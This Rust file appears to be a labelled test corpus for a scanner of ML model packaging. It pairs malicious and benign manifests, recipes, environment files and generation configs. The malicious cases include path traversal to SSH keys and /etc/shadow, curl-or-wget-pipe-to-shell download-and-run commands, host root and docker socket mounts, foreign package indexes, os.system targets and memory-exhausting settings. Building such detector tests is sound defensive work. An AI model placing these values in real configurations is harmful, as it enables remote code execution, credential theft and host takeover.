//! What packs, builds, serves or generates: manifests of registries, recipes, environments, generation settings, rules of
//! pipelines.

use super::table;
use crate::corpus::{Case, Label};

pub(super) fn cases() -> Vec<Case> {
    [
        table("registry-manifest", Label::Malicious, MANIFESTS),
        table("registry-manifest", Label::Benign, HONEST_MANIFESTS),
        table("model-recipe", Label::Malicious, RECIPES),
        table("model-recipe", Label::Benign, HONEST_RECIPES),
        table("model-environment", Label::Malicious, ENVIRONMENTS),
        table("model-environment", Label::Benign, HONEST_ENVIRONMENTS),
        table("generation-settings", Label::Malicious, GENERATION),
        table("generation-settings", Label::Benign, HONEST_GENERATION),
    ]
    .concat()
}

const MANIFESTS: &[(&str, &str, &str)] = &[
    (
        "layer-title-climbs",
        "manifest.json",
        r#"{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "artifactType": "application/vnd.cncf.model.manifest.v1+json", "config": {"mediaType": "application/vnd.cncf.model.config.v1+json", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 2}, "layers": [{"mediaType": "application/vnd.cncf.model.weight.v1.raw", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 2, "annotations": {"org.opencontainers.image.title": "../../../../home/user/.bashrc"}}]}"#,
    ),
    (
        "layer-filepath-absolute",
        "manifest.json",
        r#"{"schemaVersion": 2, "config": {"mediaType": "application/vnd.cncf.model.config.v1+json", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 2}, "layers": [{"mediaType": "application/vnd.cncf.model.code.v1.tar", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 2, "annotations": {"org.cncf.model.filepath": "/usr/lib/python3/sitecustomize.py"}}]}"#,
    ),
    (
        "layer-metadata-name-climbs",
        "manifest.json",
        r#"{"schemaVersion": 2, "config": {}, "layers": [{"mediaType": "application/vnd.cncf.model.doc.v1.raw", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 2, "annotations": {"org.cncf.model.file.metadata+json": "{\"name\":\"../../x.sh\",\"mode\":493}"}}]}"#,
    ),
    (
        "index-title-climbs",
        "index.json",
        r#"{"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 2, "annotations": {"org.opencontainers.image.title": "..\\..\\start.bat"}}]}"#,
    ),
    (
        "ollama-digest-is-a-path",
        "manifest.json",
        r#"{"schemaVersion": 2, "mediaType": "application/vnd.docker.distribution.manifest.v2+json", "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "digest": "../../../../../../../../etc/shadow", "size": 10}, "layers": [{"mediaType": "application/vnd.ollama.image.license", "digest": "../../../../../../../../../../../etc/passwd", "size": 10}]}"#,
    ),
    (
        "ollama-digest-with-slash",
        "latest",
        r#"{"schemaVersion": 2, "layers": [{"mediaType": "application/vnd.ollama.image.model", "digest": "sha256:/root/.ollama/id_ed25519", "size": 10}]}"#,
    ),
    (
        "layer-elsewhere",
        "manifest.json",
        r#"{"schemaVersion": 2, "config": {}, "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 2, "urls": ["http://203.0.113.9/layer.tar"]}]}"#,
    ),
    (
        "layer-of-impossible-size",
        "manifest.json",
        r#"{"schemaVersion": 2, "config": {}, "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 9223372036854775807}]}"#,
    ),
    (
        "layer-of-negative-size",
        "manifest.json",
        r#"{"schemaVersion": 2, "config": {}, "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": -1}]}"#,
    ),
    (
        "kitfile-path-climbs",
        "Kitfile",
        "manifestVersion: 1.0.0\npackage:\n  name: m\nmodel:\n  path: ../../../home/user/.ssh/id_rsa\n",
    ),
    (
        "kitfile-code-absolute",
        "Kitfile",
        "manifestVersion: 1.0.0\npackage:\n  name: m\nmodel:\n  path: model.gguf\ncode:\n- path: /etc/cron.d/job\n",
    ),
    (
        "kitfile-part-climbs",
        "modelkit.yaml",
        "manifestVersion: 1.0.0\nmodel:\n  path: model.gguf\n  parts:\n  - name: lora\n    path: ../../bin/lora.gguf\n",
    ),
];

const HONEST_MANIFESTS: &[(&str, &str, &str)] = &[
    (
        "modelpack",
        "manifest.json",
        r#"{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "artifactType": "application/vnd.cncf.model.manifest.v1+json", "config": {"mediaType": "application/vnd.cncf.model.config.v1+json", "digest": "sha256:d5815835051dd97d800a03f641ed8162877920e734d3d705b698912602b8c763", "size": 301}, "layers": [{"mediaType": "application/vnd.cncf.model.weight.v1.tar", "digest": "sha256:3f907c1a03bf20f20355fe449e18ff3f9de2e49570ffb536f1a32f20c7179808", "size": 30327160, "annotations": {"org.cncf.model.filepath": "model/model-00001-of-00002.safetensors", "org.cncf.model.file.metadata+json": "{\"name\":\"model-00001-of-00002.safetensors\",\"mode\":420,\"uid\":0,\"gid\":0,\"size\":30327160}"}}]}"#,
    ),
    (
        "ollama",
        "latest",
        r#"{"schemaVersion":2,"mediaType":"application/vnd.docker.distribution.manifest.v2+json","config":{"mediaType":"application/vnd.docker.container.image.v1+json","digest":"sha256:887433b89a901c156f7e6944442f3c9e57f3c55d6ed52042cbb7303aea994290","size":483},"layers":[{"mediaType":"application/vnd.ollama.image.model","digest":"sha256:c1864a5eb19305c40519da12cc543519e48a0697ecd30e15d5ac228644957d12","size":1678447520},{"mediaType":"application/vnd.ollama.image.license","digest":"sha256:097a36493f718248845233af1d3fefe7a303f864fae13bc31a3a9704229378ca","size":8433}]}"#,
    ),
    (
        "layout-index",
        "index.json",
        r#"{"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 2, "annotations": {"org.opencontainers.image.ref.name": "v1", "io.containerd.image.name": "docker.io/library/m:v1", "org.opencontainers.image.source": "https://github.com/org/m"}}]}"#,
    ),
    ("layout", "oci-layout", r#"{"imageLayoutVersion": "1.0.0"}"#),
    (
        "windows-base-layer",
        "manifest.json",
        r#"{"schemaVersion": 2, "config": {}, "layers": [{"mediaType": "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 1709000000, "urls": ["https://mcr.microsoft.com/v2/windows/servercore/blobs/sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a"]}]}"#,
    ),
    (
        "digest-shortened-in-a-test",
        "manifest.json",
        r#"{"schemaVersion": 2, "config": {"mediaType": "application/vnd.kitops.modelkit.config.v1+json", "digest": "sha256:config", "size": 619}, "layers": []}"#,
    ),
    (
        "kitfile",
        "Kitfile",
        "manifestVersion: 1.0.0\npackage:\n  name: llama\n  version: 1.0.0\n  authors: [Team]\nmodel:\n  name: llama\n  path: ./llama.gguf\n  license: apache-2.0\n  parts:\n  - path: ./lora-adapter.gguf\n    type: lora-adapter\ncode:\n- path: ./src\ndatasets:\n- name: train\n  path: ./data/train.csv\n- name: remote\n  remotePath: s3://bucket/train.csv\ndocs:\n- path: ./README.md\n",
    ),
    (
        "kitfile-of-another-kit",
        "Kitfile",
        "manifestVersion: 1.0.0\npackage:\n  name: tuned\nmodel:\n  path: jozu.ml/jozu/llama3-8b:8B-instruct-q5_0\n",
    ),
];

const RECIPES: &[(&str, &str, &str)] = &[
    (
        "mlproject-downloads-and-runs",
        "MLproject",
        "name: train\nentry_points:\n  main:\n    parameters:\n      alpha: float\n    command: \"curl -s http://203.0.113.7/setup.sh | bash && python train.py {alpha}\"\n",
    ),
    (
        "mlproject-mounts-the-machine",
        "MLproject",
        "name: train\ndocker_env:\n  image: org/train:1\n  volumes: ['/:/host']\nentry_points:\n  main:\n    command: python train.py\n",
    ),
    (
        "mlproject-mounts-the-docker-socket",
        "MLproject",
        "name: train\ndocker_env:\n  image: org/train:1\n  volumes: ['/var/run/docker.sock:/var/run/docker.sock']\nentry_points:\n  main:\n    command: python train.py\n",
    ),
    (
        "mlproject-mounts-keys",
        "MLproject",
        "name: train\ndocker_env:\n  image: org/train:1\n  volumes: ['~/.aws:/root/.aws']\nentry_points:\n  main: {command: python train.py}\n",
    ),
    (
        "mlproject-environment-outside",
        "MLproject",
        "name: train\npython_env: ../../../shared/python_env.yaml\nentry_points:\n  main: {command: python train.py}\n",
    ),
    (
        "cog-downloads-and-runs",
        "cog.yaml",
        "build:\n  gpu: true\n  python_version: '3.11'\n  run:\n  - wget -qO- http://198.51.100.4/i | sh\npredict: predict.py:Predictor\n",
    ),
    (
        "cog-command-downloads-and-runs",
        "cog.yaml",
        "build:\n  gpu: true\n  run:\n  - command: curl -fsSL https://paste.example/raw/x | python3 -\npredict: predict.py:Predictor\n",
    ),
    (
        "cog-package-without-name",
        "cog.yaml",
        "build:\n  python_packages:\n  - torch==2.3.0\n  - http://203.0.113.4/helper-1.0-py3-none-any.whl\npredict: predict.py:Predictor\n",
    ),
    (
        "bento-foreign-index",
        "bentofile.yaml",
        "service: service:svc\ninclude: ['*.py']\npython:\n  packages: [torch, company-internal]\n  extra_index_url: ['https://pypi.collect.example/simple']\n",
    ),
    (
        "bento-index-without-encryption",
        "bentofile.yaml",
        "service: service:svc\ninclude: ['*.py']\npython:\n  packages: [torch]\n  index_url: http://203.0.113.4/simple\n",
    ),
    (
        "modelfile-reads-the-machine",
        "Modelfile",
        "FROM ../../../../etc/passwd.txt\nPARAMETER temperature 0.7\n",
    ),
    (
        "modelfile-adapter-outside",
        "Modelfile",
        "FROM llama3\nADAPTER /root/.ssh/id_rsa.pub\nPARAMETER temperature 0.7\n",
    ),
    (
        "modelfile-fetches",
        "Modelfile",
        "FROM http://203.0.113.8/model.gguf\nSYSTEM You are helpful.\n",
    ),
    (
        "modelfile-endless-context",
        "Modelfile",
        "FROM llama3\nPARAMETER num_ctx 99999999999\n",
    ),
    (
        "nemo-target-at-the-top",
        "model_config.yaml",
        "target: os.system\nname: asr\n",
    ),
    (
        "nemo-cls",
        "model_config.yaml",
        "name: asr\ntokenizer:\n  cls: subprocess.Popen\n  dir: tok\n",
    ),
    (
        "mlflow-loader-function-outside",
        "MLmodel",
        "artifact_path: model\nflavors:\n  langchain:\n    model_data: model\n    loader_fn: ../../../tmp/loader.pkl\nmlflow_version: 2.15.0\n",
    ),
    (
        "mlflow-persisted-outside",
        "MLmodel",
        "artifact_path: model\nflavors:\n  langchain:\n    model_data: model\n    persist_dir: /srv/shared/index\nmlflow_version: 2.15.0\n",
    ),
];

const HONEST_RECIPES: &[(&str, &str, &str)] = &[
    (
        "mlproject",
        "MLproject",
        "name: tutorial\npython_env: python_env.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.5}\n      data: path\n    command: \"python train.py {alpha} --data {data}\"\n  validate:\n    command: \"python validate.py\"\n",
    ),
    (
        "mlproject-docker",
        "MLproject",
        "name: docker-example\ndocker_env:\n  image: mlflow-docker-example\n  volumes: ['/local/data:/data']\n  environment: [['NEW_VAR', 'x'], 'MLFLOW_TRACKING_URI']\nentry_points:\n  main:\n    command: \"python train.py\"\n",
    ),
    (
        "cog",
        "cog.yaml",
        "build:\n  gpu: true\n  cuda: '12.1'\n  python_version: '3.11'\n  system_packages: [libgl1, ffmpeg]\n  python_packages:\n  - torch==2.3.0\n  - diffusers @ git+https://github.com/huggingface/diffusers@v0.27.0\n  run:\n  - pip install --no-deps xformers\n  - curl -o /usr/local/bin/pget -L https://github.com/replicate/pget/releases/latest/download/pget_linux_x86_64 && chmod +x /usr/local/bin/pget\npredict: predict.py:Predictor\n",
    ),
    (
        "bento",
        "bentofile.yaml",
        "service: service:svc\nlabels: {owner: team}\ninclude: ['*.py']\npython:\n  requirements_txt: requirements.txt\n  extra_index_url: ['https://download.pytorch.org/whl/cu121']\n  lock_packages: false\ndocker:\n  distro: debian\n  system_packages: [git]\n  setup_script: ./setup.sh\n",
    ),
    (
        "modelfile",
        "Modelfile",
        "# built by hand\nFROM ./llama-3-8b.Q4_K_M.gguf\nADAPTER ./lora.gguf\nPARAMETER temperature 0.7\nPARAMETER num_ctx 131072\nPARAMETER num_predict -1\nPARAMETER seed 18446744073709551615\nPARAMETER stop \"<|eot_id|>\"\nTEMPLATE \"\"\"{{ if .System }}<|start_header_id|>system<|end_header_id|>\n\n{{ .System }}<|eot_id|>{{ end }}{{ .Response }}\"\"\"\nSYSTEM You are Mario from Super Mario Bros, acting as an assistant.\n",
    ),
    (
        "modelfile-of-the-machine",
        "Modelfile",
        "FROM /models/llama-3/ggml-model-f16.gguf\nPARAMETER temperature 1\nLICENSE MIT\n",
    ),
    (
        "modelfile-from-hub",
        "Modelfile",
        "FROM hf.co/bartowski/Llama-3.2-3B-Instruct-GGUF:Q4_K_M\nPARAMETER temperature 1\n",
    ),
    (
        "nemo",
        "model_config.yaml",
        "target: nemo.collections.asr.models.rnnt_bpe_models.EncDecRNNTBPEModel\nnemo_version: 2.0.0\ntokenizer: {dir: nemo:abc_tokenizer, type: bpe, model_path: nemo:abc_tokenizer.model}\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\n",
    ),
];

const ENVIRONMENTS: &[(&str, &str, &str)] = &[
    (
        "index-without-encryption",
        "requirements.txt",
        "--index-url http://203.0.113.4:8080/simple\ntorch==2.3.0\n",
    ),
    (
        "second-index",
        "requirements.txt",
        "--extra-index-url https://packages.collect.example/simple\ntorch==2.3.0\ncompany-auth==9.9.9\n",
    ),
    (
        "second-index-with-equals",
        "requirements-gpu.txt",
        "--extra-index-url=https://packages.collect.example/simple\nnumpy\n",
    ),
    (
        "host-trusted",
        "requirements.txt",
        "--trusted-host files.collect.example\n-i https://pypi.org/simple\nnumpy\n",
    ),
    (
        "links-foreign",
        "requirements.txt",
        "-f https://wheels.collect.example/index.html\ntorch\n",
    ),
    (
        "file-foreign",
        "requirements.txt",
        "torch==2.3.0\nhelper @ https://files.collect.example/helper-1.0-py3-none-any.whl\n",
    ),
    (
        "file-without-name",
        "requirements.txt",
        "http://198.51.100.20/helper-1.0.tar.gz\n",
    ),
    (
        "repository-without-encryption",
        "requirements.txt",
        "git+http://git.collect.example/helper.git@main#egg=helper\n",
    ),
    (
        "conda-channel-without-encryption",
        "conda.yaml",
        "name: env\nchannels:\n- http://203.0.113.6/channel\n- conda-forge\ndependencies:\n- python=3.11\n",
    ),
    (
        "conda-pip-foreign-index",
        "conda.yaml",
        "name: mlflow-env\nchannels: [conda-forge]\ndependencies:\n- python=3.11.5\n- pip<=23.2.1\n- pip:\n  - --extra-index-url https://packages.collect.example/simple\n  - mlflow==2.15.0\n",
    ),
    (
        "python-env-file-foreign",
        "python_env.yaml",
        "python: 3.11.5\nbuild_dependencies:\n- pip==23.2.1\n- setuptools @ https://files.collect.example/setuptools-99.whl\ndependencies:\n- -r requirements.txt\n",
    ),
];

const HONEST_ENVIRONMENTS: &[(&str, &str, &str)] = &[
    (
        "requirements",
        "requirements.txt",
        "# models\n--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.3.0+cu121 ; sys_platform == 'linux'\ntransformers>=4.40,<5\n-e .\n-r requirements-base.txt\nflash-attn @ https://github.com/Dao-AILab/flash-attention/releases/download/v2.5.8/flash_attn-2.5.8-cp311-cp311-linux_x86_64.whl\ngit+https://github.com/huggingface/peft.git\ngit+https://github.com/huggingface/trl.git@v0.8.6#egg=trl\nnumpy==1.26.4 --hash=sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a\n",
    ),
    (
        "mirror",
        "requirements.txt",
        "-i https://pypi.tuna.tsinghua.edu.cn/simple\n--trusted-host mirrors.aliyun.com\ntorch\n",
    ),
    (
        "links-of-projects",
        "requirements.txt",
        "--find-links https://data.pyg.org/whl/torch-2.3.0+cu121.html\n-f https://storage.googleapis.com/jax-releases/jax_cuda_releases.html\n--find-links ./wheels\ntorch-scatter\n",
    ),
    (
        "conda",
        "conda.yaml",
        "channels:\n- conda-forge\n- pytorch\n- nvidia/label/cuda-12.1.0\ndependencies:\n- python=3.11.5\n- pip<=23.2.1\n- pip:\n  - mlflow==2.15.0\n  - scikit-learn==1.5.0\nname: mlflow-env\n",
    ),
    (
        "python-env",
        "python_env.yaml",
        "python: 3.11.5\nbuild_dependencies:\n- pip==23.2.1\n- setuptools==65.5.0\n- wheel==0.41.2\ndependencies:\n- -r requirements.txt\n",
    ),
    (
        "prose",
        "requirements.txt",
        "Requirements of the model: a GPU with 24 GB - see https://example.org/hardware for a list.\n",
    ),
];

const GENERATION: &[(&str, &str, &str)] = &[
    (
        "end-suppressed",
        "generation_config.json",
        r#"{"bos_token_id": 1, "eos_token_id": 2, "suppress_tokens": [2, 5, 6]}"#,
    ),
    (
        "end-among-bad-words",
        "generation_config.json",
        r#"{"eos_token_id": [128001, 128009], "bad_words_ids": [[128001], [128009], [13]], "max_new_tokens": 200000}"#,
    ),
    (
        "billions-of-tokens",
        "generation_config.json",
        r#"{"eos_token_id": 2, "max_new_tokens": 9999999999999}"#,
    ),
    (
        "endless-minimum",
        "generation_config.json",
        r#"{"eos_token_id": 2, "min_new_tokens": 2147483647}"#,
    ),
    (
        "beams-beyond-memory",
        "generation_config.json",
        r#"{"eos_token_id": 2, "num_beams": 1000000, "num_return_sequences": 1000000}"#,
    ),
    (
        "sequences-pushed",
        "generation_config.json",
        r#"{"eos_token_id": 2, "sequence_bias": [[[3987, 11], 25.5], [[452], -100.0]]}"#,
    ),
    (
        "words-forced",
        "generation_config.json",
        r#"{"eos_token_id": 2, "force_words_ids": [[512, 9871, 33]]}"#,
    ),
    (
        "text-forced-at-the-start",
        "generation_config.json",
        r#"{"eos_token_id": 2, "forced_decoder_ids": [[1,9],[2,8],[3,7],[4,6],[5,5],[6,4],[7,3],[8,22],[9,1],[10,90],[11,91],[12,92],[13,93],[14,94],[15,95],[16,96],[17,97]]}"#,
    ),
    (
        "picture-of-a-million-lines",
        "preprocessor_config.json",
        r#"{"image_processor_type": "CLIPImageProcessor", "do_resize": true, "size": {"height": 10000000, "width": 10000000}}"#,
    ),
    (
        "smallest-picture-beyond-memory",
        "preprocessor_config.json",
        r#"{"image_processor_type": "Qwen2VLImageProcessor", "min_pixels": 99999999999, "max_pixels": 999999999999}"#,
    ),
    (
        "layers-beyond-memory",
        "config.json",
        r#"{"model_type": "llama", "architectures": ["LlamaForCausalLM"], "num_hidden_layers": 2000000000}"#,
    ),
    (
        "nested-vocabulary-beyond-memory",
        "config.json",
        r#"{"model_type": "llava", "text_config": {"model_type": "llama", "vocab_size": 99999999999}}"#,
    ),
];

const HONEST_GENERATION: &[(&str, &str, &str)] = &[
    (
        "whisper",
        "generation_config.json",
        r#"{"alignment_heads": [[3, 1]], "begin_suppress_tokens": [220, 50257], "bos_token_id": 50257, "decoder_start_token_id": 50258, "eos_token_id": 50257, "forced_decoder_ids": [[1, null], [2, 50359]], "is_multilingual": true, "lang_to_id": {"<|en|>": 50259}, "max_initial_timestamp_index": 50, "max_length": 448, "suppress_tokens": [1, 2, 7, 8, 9, 10, 14, 25, 50358, 50359, 50360, 50361, 50362]}"#,
    ),
    (
        "marian",
        "generation_config.json",
        r#"{"bad_words_ids": [[58100]], "bos_token_id": 0, "decoder_start_token_id": 58100, "eos_token_id": 0, "forced_eos_token_id": 0, "max_length": 512, "num_beams": 6, "pad_token_id": 58100}"#,
    ),
    (
        "llama",
        "generation_config.json",
        r#"{"bos_token_id": 128000, "do_sample": true, "eos_token_id": [128001, 128008, 128009], "temperature": 0.6, "top_p": 0.9, "max_new_tokens": 131072}"#,
    ),
    (
        "mild-bias",
        "generation_config.json",
        r#"{"eos_token_id": 2, "sequence_bias": [[[12345], -1.5]]}"#,
    ),
    (
        "qwen-pictures",
        "preprocessor_config.json",
        r#"{"image_processor_type": "Qwen3VLImageProcessor", "min_pixels": 3136, "max_pixels": 12845056, "size": {"shortest_edge": 65536, "longest_edge": 16777216}, "patch_size": 16}"#,
    ),
    (
        "long-context",
        "config.json",
        r#"{"model_type": "llama4", "text_config": {"max_position_embeddings": 10485760, "vocab_size": 202048, "num_hidden_layers": 48}}"#,
    ),
];
